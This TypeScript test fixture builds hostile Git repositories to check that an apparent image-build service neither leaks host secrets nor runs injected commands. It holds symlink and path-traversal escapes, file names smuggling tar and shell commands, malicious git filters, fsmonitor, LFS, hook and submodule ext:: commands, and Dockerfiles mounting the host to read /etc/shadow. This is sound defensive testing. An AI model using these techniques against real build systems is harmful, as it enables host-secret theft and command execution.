import { createRepository, type TestRepository } from "./git-repository.ts";

/** A hostile repository, and the effects that its build must not have. */
export interface HostileRepository {
  readonly name: string;
  /** Settings of the application that enable the attack. */
  readonly settings: Readonly<Record<string, unknown>>;
  /** @param folder Created when missing. */
  make(folder: string): TestRepository;
}

const SCRIPT = "#!/bin/sh\ntouch MARKER\n";
const SHOW = 'FROM busybox:stable\nCOPY . /copied\nCMD ["httpd", "-f", "-p", "80", "-h", "/"]\n';

/**
 * @param places.marker Path of a file that must not exist after a build.
 * @param places.secretFolder A folder of Berth's machine with a file `secret`, which must not get into any image.
 */
export function hostileRepositories(places: {
  readonly marker: string;
  readonly secretFolder: string;
}): readonly HostileRepository[] {
  const { marker, secretFolder } = places;
  const withFiles = (
    name: string,
    settings: HostileRepository["settings"],
    files: Parameters<TestRepository["commit"]>[0],
    change: (repository: TestRepository) => void = () => {},
  ): HostileRepository => ({
    name,
    settings,
    make(folder) {
      const repository = createRepository(folder);
      repository.commit(filled(files, marker));
      change(repository);
      return repository;
    },
  });
  return [
    withFiles("a link to a file of the server", {}, { Dockerfile: SHOW, stolen: { link: `${secretFolder}/secret` } }),
    withFiles("a link to a folder of the server", {}, { Dockerfile: SHOW, stolen: { link: secretFolder } }),
    withFiles(
      "a link out of the repository",
      {},
      {
        Dockerfile: SHOW,
        "deep/stolen": { link: `${"../".repeat(12)}${secretFolder.slice(1)}/secret` },
      },
    ),
    withFiles(
      "a link to a link to the server",
      {},
      {
        Dockerfile: SHOW,
        one: { link: "two" },
        two: { link: `${secretFolder}/secret` },
      },
    ),
    withFiles("a Dockerfile that is a link to the server", {}, { Dockerfile: { link: `${secretFolder}/secret` } }),
    withFiles(
      "a Dockerfile behind a link to the server",
      { dockerfile_location: "/out/secret" },
      {
        out: { link: secretFolder },
      },
    ),
    withFiles(
      "a base directory that is a link to the server",
      { base_directory: "/out" },
      {
        out: { link: secretFolder },
      },
    ),
    withFiles(
      "a .dockerignore that is a link to the server",
      {},
      {
        Dockerfile: SHOW,
        ".dockerignore": { link: `${secretFolder}/secret` },
      },
    ),
    withFiles(
      "a .dockerignore with patterns that lead out",
      {},
      {
        Dockerfile: SHOW,
        ".dockerignore": "../../../**\n!/etc/passwd\n!../secret\n!**/secret\n-rf\n[z-a]\n!\n",
      },
    ),
    withFiles(
      "names that look like options",
      {},
      {
        Dockerfile: SHOW,
        "--output=MARKER": "x",
        "--checkpoint-action=exec=touch MARKER": "x",
        "--use-compress-program=touch MARKER": "x",
        "-rf": "x",
      },
    ),
    withFiles(
      "names with every break",
      {},
      {
        Dockerfile: SHOW,
        "a\nb": "x",
        "a'b": "x",
        'a"b': "x",
        "$(touch MARKER)": "x",
        "`touch MARKER`": "x",
        "; touch MARKER": "x",
        "a\\b": "x",
        "\u202egnp": "x",
      },
    ),
    withFiles(
      "filters, drivers and hooks",
      {},
      {
        Dockerfile: SHOW,
        ".gitattributes": "* filter=evil diff=evil merge=evil export-subst\n",
        ".gitconfig": "[core]\n\tfsmonitor = touch MARKER\n",
        ".lfsconfig": "[lfs]\n\turl = ext::touch MARKER\n",
        "hooks/post-checkout": { script: SCRIPT },
        evil: "$Format:%(trailers:key=x)$",
      },
    ),
    withFiles("a submodule that is a command", {}, { Dockerfile: SHOW }, (repository) => {
      repository.commit({
        ".gitmodules": `[submodule "x"]\n\tpath = x\n\turl = ext::touch ${marker}\n\tupdate = !touch ${marker}\n`,
      });
      const head = repository.git("rev-parse", "HEAD");
      repository.git("update-index", "--add", "--cacheinfo", `160000,${head},x`);
      repository.git("commit", "--quiet", "--message", "Point to it");
    }),
    withFiles(
      "a Dockerfile that asks for rights",
      {},
      {
        Dockerfile: [
          "# syntax=evil.invalid/frontend:1",
          "FROM busybox:stable",
          "RUN --security=insecure touch /insecure",
          "RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow",
          "",
        ].join("\n"),
      },
    ),
    withFiles(
      "a build that reads the server through a mount",
      {},
      {
        Dockerfile: [
          "FROM busybox:stable",
          `RUN --mount=type=bind,source=..,target=/up cat /up${secretFolder}/secret >/copied || true`,
          `COPY ..${secretFolder}/secret /copied2`,
          "",
        ].join("\n"),
      },
    ),
  ];
}

/** Replaces the marker in file names too, where its slashes create folders. */
function filled(
  files: Parameters<TestRepository["commit"]>[0],
  marker: string,
): Parameters<TestRepository["commit"]>[0] {
  return Object.fromEntries(
    Object.entries(files).map(([path, content]) => [
      path.replaceAll("MARKER", marker.slice(marker.lastIndexOf("/") + 1)),
      typeof content === "string"
        ? content.replaceAll("MARKER", marker)
        : content !== null && "script" in content
          ? { script: content.script.replaceAll("MARKER", marker) }
          : content,
    ]),
  );
}
